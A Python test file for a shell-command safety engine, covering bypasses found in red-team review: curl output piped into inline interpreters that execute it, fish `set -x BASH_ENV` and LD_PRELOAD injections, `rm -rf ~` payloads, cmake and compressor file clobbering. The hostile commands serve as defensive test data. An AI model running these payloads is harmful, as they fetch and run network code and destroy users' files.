"""stop 56 (issue 8): stop 55's open items, with the project where users keep theirs (~/p).

1. An inline program fed from the network is allowed only in one of the data-only shapes (engine/policy/dataonly.py,
   the matcher condition `data_only`): python read by its own parser, every module it imports, builtin it names and
   attribute it reads on a list of those that turn input into data, every other name its own; node, perl, ruby and
   lua by their tokens; any other language asks. Stop 55 read these programs through a regex of the ways to run code,
   and each review found another: `os.posix_spawnp('sh', ['sh', '-c', sys.stdin.read()], os.environ)` was allowed
   and ran the response (live below), as was `().__class__.__base__.__subclasses__()`, the classic way around a
   list of names.
2. fish's `set [-gx] NAME VALUE` assigns NAME (Analyzer._fish_set): `fish -c 'set -x BASH_ENV e.sh; bash -c true'`
   was read as sh's `set -- …` (positional parameters) and allowed; bash ran e.sh (live below). `set -x LD_PRELOAD`,
   `set -x GIT_SSH_COMMAND` likewise; `-a`/`-p` add to the value, `-e` unsets.
3. cmake's build files land where cmake was started, not in `-S DIR` (which its `chdir: [S]` reading moves to for
   CMakeLists.txt): `cd .. && cmake -S p` wrote ~/Makefile, allowed (the Programs table's run field `unmoved`).
4. A compressor replacing a user's file outside the tree (`gzip ~/notes.txt`: the note becomes notes.txt.gz, gone
   from where the user keeps it) was allowed where `rm ~/notes.txt` asked: user_file_destroyed holds the compressors
   that replace their operand (not -c, -k, -l, -t; zstd, lz4 and brotli only with --rm).
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from engine import Engine
from engine.policy.dataonly import data_only
from tests.redteam.harm import (
    assert_allowed,
    assert_not_allowed,
    home_intact,
    home_project_verdicts,
    home_with_project,
    lost_unguarded_then_blocked,
    note_lost,
    unguarded_home,
    users_makefile,
)

_URL = "https://api.example.com/v1/x"

# -- 1. inline programs fed from the network ------------------------------------------------------------------------
_PROGRAMS_THAT_RUN_IT = [
    # the forms stop 55's regex missed
    "python3 -c \"import os, sys; os.posix_spawnp('sh', ['sh', '-c', sys.stdin.read()], os.environ)\"",
    "python3 -c 'import sys; print(().__class__.__base__.__subclasses__())'",
    "python3 -c 'import sys; sys.path.insert(0, \"/tmp\"); import json'",
    "python3 -c 'import sys, operator; operator.attrgetter(\"x\")(sys)'",
    "python3 -c 'import sys, pty; pty.spawn(sys.stdin.read())'",
    "python3 -c 'import sys; print(f\"{open(sys.argv[0])}\")'",
    "node -e 'process.stdin.on(\"data\", d => [].map.constructor(d)())'",
    'node -e \'process.stdin.on("data", d => { const k = "constr" + "uctor"; [].map[k][k](d)() })\'',
    'node -e \'const f = require("fs"); f.writeFileSync("x", 1)\'',
    "node -e 'process.mainModule.require(\"child_process\")'",
    "node -e 'require.main.require(\"child_process\")'",
    "perl -ne 'CORE::system($_)'",
    "perl -ne 'print \"@{[ qx($_) ]}\"'",
    "perl -pe 's/(.*)/$1/ee'",
    "ruby -e 'require \"open3\"; Open3.capture2(STDIN.read)'",
    "ruby -e 'STDIN.read.then { |s| Kernel.public_send(:system, s) }'",
    "lua -e 'load(io.read(\"a\"))()'",
    "lua -e 'os.execute(io.read(\"a\"))'",
    "php -r 'echo json_decode(file_get_contents(\"php://stdin\"))->v;'",
    # the adversary of this stop (adv56), each live against the first allowlist
    "python3 -c 'import sys; (lambda exec: 0); [exec][0](sys.stdin.read())'",
    "python3 -c 'import sys; x = [exec][0]; exec = 0; x(sys.stdin.read())'",
    'node -p \'[]["constructor"]["constructor"](require("fs").readFileSync(0, "utf8"))()\'',
    'node -e \'const d = JSON.parse(require("fs").readFileSync(0)); console.log(require("fs").readFileSync(d.p))\'',
    'node -e \'{ let setTimeout = 1 } setTimeout(require("fs").readFileSync(0, "utf8"))\'',
    "perl -e 'chomp(@ARGV = <STDIN>); print while <>'",
    "perl -e 'print 1; # '\\''\nopen F, \">x.pl\"; print F <STDIN>; close F; require \"./x.pl\"; # '\\'''",
    'perl -e \'use if 1, "re", lc "EVAL"; $x = <STDIN>; print "ok" if "a" =~ $x\'',
    "ruby -e 'instance_eval = 0; instance_eval(STDIN.read)'",
    "ruby -e 'ARGV.replace([STDIN.read]); puts ARGF.read'",
    'lua -e \'local x = io.read("a"); local f = io["open"]("../notes.txt", "w"); f:write(x)\'',
    "lua -e 'for l in io.lines(io.read()) do print(l) end'",
    # the review of this stop (rev56), each live against the second allowlist
    "perl -ne 'my @x = (1); print \"$x[readpipe]\"'",
    "perl -ne 'print if /$x[readpipe]/'",
    "perl -ne 'print if /'\"'\"'/; readpipe; print if /'\"'\"'/'",
    "ruby -e 'c = STDIN.readlines; puts [\"\", c[1]].inject(c[0].chomp)'",
    'node -e \'const p = JSON.parse(require("fs").readFileSync(0)); Object.getOwnPropertyDescriptor('
    "Object.getPrototypeOf(x => 0), p[0]).value(p)()'",
    'lua -e \'local a = io.read("l"); for k, v in pairs(io) do if k == a then v(io.read("a")) end end\'',
]
_DATA_READERS = [
    "python3 -c 'import json, sys; print(json.load(sys.stdin)[\"tag_name\"])'",
    "python3 -c 'import sys, json; d = json.load(sys.stdin); [print(k, v) for k, v in d.items()]'",
    "python3 -c 'import sys; print(f\"{len(sys.stdin.read()):>10}\")'",
    "python3 -c 'import sys, csv; print(sum(1 for _ in csv.reader(sys.stdin)))'",
    "python3 -c 'import re, sys; print(re.findall(r\"v(\\d+)\", sys.stdin.read()))'",
    "node -p 'JSON.parse(require(\"fs\").readFileSync(0)).tag_name'",
    'node -e \'let d = ""; process.stdin.on("data", c => d += c)'
    ' .on("end", () => console.log(JSON.parse(d).version))\'',
    "perl -ne 'print if /version/'",
    "perl -MJSON::PP -e 'my $d = decode_json(join \"\", <STDIN>); print $d->{tag_name}'",
    "ruby -rjson -e 'puts JSON.parse(STDIN.read)[\"tag_name\"]'",
    "lua -e 'print(io.read(\"a\"))'",
    # adv56's false alarms of the first allowlist
    "perl -pe 's/foo/bar/g'",
    "perl -ne 'print $1 if m{<title>(.*)</title>}'",
    'perl -lne \'print for /href="([^"]+)"/g\'',
    "ruby -ne 'puts $_ if $_ =~ /version/'",
    "ruby -e 'puts STDIN.read.scan(/v\\d+/).uniq'",
    "python3 -c 'import sys, tomllib; print(tomllib.load(sys.stdin.buffer)[\"tool\"])'",
    "python3 -c 'import html, sys; print(html.unescape(sys.stdin.read()))'",
    # rev56's false alarms of the second
    "node -e \"const fs = require('fs'); console.log(JSON.parse(fs.readFileSync(0, 'utf8')).version)\"",
    "python3 -c 'import json, sys; print(type(json.load(sys.stdin)))'",
    "perl -lane 'print \"$F[1]\"'",
]


def test_an_inline_program_fed_from_the_network_that_may_run_it_is_not_allowed(scorer: Engine) -> None:
    for program in _PROGRAMS_THAT_RUN_IT:
        assert_not_allowed(scorer, f"curl -s {_URL} | {program}")
        assert_not_allowed(scorer, f'{program} <<< "$(curl -s {_URL})"')


def test_an_inline_program_that_reads_the_network_as_data_is_allowed(scorer: Engine) -> None:
    for program in _DATA_READERS:
        assert_allowed(scorer, f"curl -s {_URL} | {program}")


@pytest.mark.parametrize(
    ("name", "code", "expected"),
    [
        ("python3", "import json, sys\nfor k in json.load(sys.stdin): print(k)", True),
        ("python3", "import sys; print(sys.stdin.read().format(sys))", True),  # attributes, never a call
        ("python3", "import sys; help(sys.stdin.read())", False),  # pydoc's pager
        ("python3", "import sys; getattr(sys, 'stdin')", False),
        ("python3", "import sys\nclass X: pass", False),
        ("python3", "import sys; __builtins__", False),
        ("python3", "def f(): pass\n@f\ndef g(): pass", False),
        ("python3", "import os.path", False),
        ("python3", "from json import *", False),
        ("python3", "import sys; print(", False),  # not python: unread, not data
        ("node", "console.log(JSON.parse(d)[k])", False),  # an index that is not a plain key
        ("node", "console.log(`${x}`)", False),
        ("node", 'console.log("\\u0065val")', False),
        ("perl", "print $h{version}", True),
        ("perl", 'print &{"system"}(1)', False),
        ("ruby", "puts STDIN.read.upcase", True),
        ("ruby", 'puts "#{STDIN.read}"', False),
        ("tclsh", "puts [gets stdin]", False),  # no shapes for the language: never data-only
        ("python3", "x = 1\n" * 2000, True),
    ],
)
def test_the_data_only_shapes(name: str, code: str, expected: bool) -> None:
    assert data_only(name, code) is expected


@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
@pytest.mark.parametrize(
    ("served_file", "program"),
    [
        ("p.sh", "python3 -c \"import os, sys; os.posix_spawnp('sh', ['sh', '-c', sys.stdin.read()], os.environ)\""),
        ("p.py", "python3 -c 'import sys; (lambda exec: 0); [exec][0](sys.stdin.read())'"),  # adv56
    ],
)
def test_an_inline_program_running_the_networks_text_loses_the_note_unguarded_and_is_refused(
    tmp_path: Path, home_project: tuple[Engine, Path, Path], served: str, served_file: str, program: str
) -> None:
    lost_unguarded_then_blocked(tmp_path, home_project, f"curl -s {served}/{served_file} | {program}", note_lost)


@pytest.mark.skipif(shutil.which("curl") is None, reason="curl is not installed")
def test_the_networks_json_read_as_data_by_node_is_allowed_and_harmless(
    tmp_path: Path, home_project: tuple[Engine, Path, Path], served: str
) -> None:
    command = f"curl -s {served}/v.json | node -p 'JSON.parse(require(\"fs\").readFileSync(0)).tag'"
    assert home_intact(unguarded_home(tmp_path, command))
    assert_allowed(home_project[0], command)


# -- 2. fish's set ---------------------------------------------------------------------------------------------------
_FISH_PAYLOADS = [
    "fish -c 'set -x BASH_ENV e.sh; bash -c true'",
    "fish -c 'set -gx BASH_ENV e.sh; bash -c true'",
    "fish -c 'set --export --global BASH_ENV e.sh; bash -c true'",
    "fish -c 'set -x LD_PRELOAD ./x.so; ls'",
    "fish -c 'set -x GIT_SSH_COMMAND \"rm -rf ~\"; git fetch'",
    "fish -c 'set c rm; $c -rf ~'",
    "fish -c 'set -a c -rf; set -p c rm; $c ~'",
    "fish -c 'set d (echo ~); rm -rf $d'",
    "fish -c 'set -- e.sh; set -x BASH_ENV $argv[1]; bash -c true'",
    # (adv56) a variable named only at run time may be any (Variables.readings, ANY_VARIABLE), in sh too
    "fish -c 'set -x (string upper bash_env) e.sh; bash -c true'",
    'export "$(cat f)=e.sh"; bash -c true',
    'declare -x "$(cat f)=./x.so"; ls',
    # (rev56) a value only this fish holds, or only for a while: unexported, block-local, a function's own
    'fish -c \'set X p/; bash -c "rm -f ~/\\"\\$X\\"notes.txt"\'',
    "fish -c 'begin; set -l X p/; end; rm -f ~/\"$X\"notes.txt'",
    "fish -c 'function f; set X p/; end; f; rm -f ~/\"$X\"notes.txt'",
]
_FISH_NEAR_MISSES = [
    "fish -c 'set x 1; echo $x'",
    "fish -c 'set -q HOME; and echo yes'",
    "fish -c 'set -e X; ls'",
    "fish -c 'set -x FOO bar; ls'",
    "fish -c 'set -gx EDITOR vim; git status'",
    "bash -c 'set -x; ls'",
    "bash -c 'set -- a b; echo $1'",
    "fish -c 'set -x (echo FOO) bar; ls'",
    "fish -c 'set d src; ls $d'",
    'unset "$(cat f)"; ls',
]

_fish = home_project_verdicts(_FISH_PAYLOADS, _FISH_NEAR_MISSES)
test_a_variable_fishs_set_assigns_is_read_by_what_runs_next = _fish[0]
test_fishs_set_near_misses_stay_allowed = _fish[1]


@pytest.mark.skipif(shutil.which("fish") is None, reason="fish is not installed")
def test_fishs_set_of_bash_env_loses_the_note_unguarded_and_is_refused(
    tmp_path: Path, home_project: tuple[Engine, Path, Path]
) -> None:
    payload = "echo 'rm -f ~/notes.txt' > e.sh; fish -c 'set -x BASH_ENV e.sh; bash -c true'"
    lost_unguarded_then_blocked(tmp_path, home_project, payload, note_lost)


# -- 3. cmake -S ------------------------------------------------------------------------------------------------------
def test_cmakes_build_files_land_where_it_was_started(home_project: tuple[Engine, Path, Path]) -> None:
    engine, home, _ = home_project
    users_makefile(home)
    for command in (
        "cd .. && cmake -S p",
        "cd .. && cmake -S ./p -B .",
        "cd ~ && cmake -S p -DX=1",
        "cmake . -B ~",  # (adv56) options after the first operand
        "cd src && cmake .. -B ../..",
    ):
        assert_not_allowed(engine, command)
    for command in ("cd .. && cmake -S p -B p/build", "cmake -S . -B build", "cmake -S src -B build", "cmake ."):
        assert_allowed(engine, command)


@pytest.mark.skipif(shutil.which("cmake") is None, reason="cmake is not installed")
def test_cmake_dash_s_writes_the_users_makefile_unguarded_and_is_refused(
    tmp_path: Path, home_project: tuple[Engine, Path, Path]
) -> None:
    home, project = home_with_project(tmp_path / "unguarded")
    makefile = users_makefile(home)
    (project / "CMakeLists.txt").write_text("cmake_minimum_required(VERSION 3.10)\nproject(x NONE)\n")
    env = {"PATH": os.environ["PATH"], "HOME": str(home)}
    subprocess.run(
        ["/bin/bash", "-c", "cd .. && cmake -S p"], cwd=project, env=env, capture_output=True, timeout=120, check=False
    )
    assert "echo the user's" not in makefile.read_text(), "cmake should write its Makefile over the user's"
    engine, guarded, guarded_project = home_project
    users_makefile(guarded)
    (guarded_project / "CMakeLists.txt").write_text("cmake_minimum_required(VERSION 3.10)\nproject(x NONE)\n")
    assert_not_allowed(engine, "cd .. && cmake -S p")


# -- 4. compressors over a user's file -------------------------------------------------------------------------------
_COMPRESSED = [
    "gzip ~/notes.txt",
    "bzip2 ../notes.txt",
    "xz -9 ~/notes.txt",
    "zstd --rm ~/notes.txt",
    "lzip ~/notes.txt",
    "gzip -S .x ~/notes.txt",
]
# (adv56) lz4 deletes its input with --rm even under -c, and writes its second operand; zstdmt and pzstd are zstd
_COMPRESSED += [
    "lz4 --rm -c ~/notes.txt > x.lz4",
    "lz4 -f a.py ~/notes.txt",
    "unlz4 -f a.lz4 ~/notes.txt",
    "zstdmt --rm ~/notes.txt",
    "pzstd --rm ~/notes.txt",
    # (rev56) zstd's last of -k and --rm wins; lbzip2; cmake -E's file commands
    "zstd -q -k --rm ~/notes.txt",
    "lbzip2 ~/notes.txt",
    "cmake -E copy a.py ~/notes.txt",
    "cmake -E remove ~/notes.txt",
    "cmake -E chdir .. rm notes.txt",
]
_KEPT = [
    "gzip -k ~/notes.txt",
    "gzip -c ~/notes.txt > n.gz",
    "zstd ~/notes.txt",
    "gzip notes.txt",
    "xz -t ~/x.xz",
    "lz4 a.py a.py.lz4",
    "lz4 -m a.py src/b.py",
    "tar -czf ~/backup.tgz src",
    "tar -cf - src | gzip > s.tgz",
    "cmake -E copy a.py build/",
    "cmake -E chdir src ls",
]

_compressors = home_project_verdicts(_COMPRESSED, _KEPT)
test_a_compressor_replacing_a_users_file_is_not_allowed = _compressors[0]
test_a_compressor_that_keeps_it_stays_allowed = _compressors[1]


def test_gzip_of_the_note_loses_it_unguarded_and_is_refused(
    tmp_path: Path, home_project: tuple[Engine, Path, Path]
) -> None:
    lost_unguarded_then_blocked(tmp_path, home_project, "gzip ~/notes.txt", note_lost)


# -- 5. false alarms -------------------------------------------------------------------------------------------------
# A module by name in PERL5OPT / RUBYOPT is found in @INC / $LOAD_PATH, which holds no folder of the line's: it is no
# file the line names (`PERL5OPT=-Mstrict` was read as the file `strict`, and asked); a path, code after the name, or
# -I DIR still ask. A temp folder itself as a copy's destination puts the file inside it, as /tmp does. zip's -m deletes
# the files it packs, not the archive it adds them to (`zip -m ~/backup.zip a.py` asked as `rm -r ~/backup.zip`).
_OPTION_VARIABLES = [
    "PERL5OPT='-M./x.pm' prove",
    "PERL5OPT='-Mstrict;system(1)' prove",
    "PERL5OPT=-I. prove",
    # (adv56) the folders a perl or ruby program finds its modules in, whichever program it is
    "echo 'system(1)' > x.pm; PERL5LIB=. PERL5OPT=-Mx shasum a.py",
    "echo 'system(1)' > x.pm; PERL5LIB=. shasum a.py",
    "echo 'system(1)' > lib/x.rb; RUBYLIB=lib:other rake",
    "RUBYOPT=-r./x.rb bundle exec rake",
    "RUBYOPT='-I. -rx' rake",
    "rsync -a --delete empty/ /var/tmp",
    "mv ~/src/other /var/tmp",
    "cp a.py /var",
    "zip -m /tmp/x.zip ~/notes.txt",
    "zip -m x.zip ../notes.txt",
]
_OPTION_VARIABLE_NEAR_MISSES = [
    "PERL5OPT=-Mstrict perl a.pl",
    "PERL5OPT=-MDevel::Cover=-db,cover_db prove -r t",
    "PERL5OPT=-d:NYTProf perl a.pl",
    "RUBYOPT=-rbundler/setup bundle exec rake",
    "RUBYOPT=-W0 ruby a.rb",
    "PERL5LIB=lib prove -r t",
    "cp a.py /var/tmp",
    "install -m 644 a.py /dev/shm/",
    "zip -m ~/backup.zip a.py",
    "zip -mr ~/b.zip src",
]
_options = home_project_verdicts(_OPTION_VARIABLES, _OPTION_VARIABLE_NEAR_MISSES)
test_a_path_or_code_in_an_option_variable_is_not_allowed = _options[0]
test_a_module_by_name_in_an_option_variable_stays_allowed = _options[1]
